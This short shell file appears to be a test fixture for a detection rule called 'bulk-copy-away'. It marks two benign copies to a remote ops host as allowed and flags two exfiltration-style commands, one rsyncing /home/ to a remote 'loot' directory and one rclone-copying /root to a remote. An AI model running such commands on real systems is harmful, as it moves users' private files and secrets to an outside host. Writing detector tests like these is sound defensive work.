#!/bin/bash
# ok: bulk-copy-away
rsync -a results/ ops@203.0.113.5:/data/results/
# ok: bulk-copy-away
tar czf - build | ssh ops@203.0.113.5 'tar xzf -'
# ruleid: bulk-copy-away
rsync -a /home/ ops@203.0.113.5:/loot/
# ruleid: bulk-copy-away
rclone copy /root remote:backup
